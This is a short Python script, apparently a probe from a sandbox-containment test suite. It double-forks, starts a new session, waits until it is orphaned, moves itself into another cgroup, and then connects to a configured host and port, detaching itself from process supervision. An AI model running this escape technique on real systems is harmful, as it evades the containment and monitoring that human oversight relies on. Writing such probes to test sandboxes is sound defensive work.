"""Forks twice, starts a session, leaves the cgroup, waits until it is nobody's child, connects."""
from way import *


def way():
    reader, writer = os.pipe()
    middle = os.fork()
    if middle == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        own = os.getppid()
        while os.getppid() == own and own != 1:
            pass
        with open(f"{MORE[0]}/cgroup.procs", "w") as procs:
            procs.write("0")
        told(lambda: answered(socket.create_connection((HOST, PORT))))
        os._exit(0)
    os.waitpid(middle, 0)
    os.close(writer)
    os.read(reader, 1)
    sys.exit()


told(way)
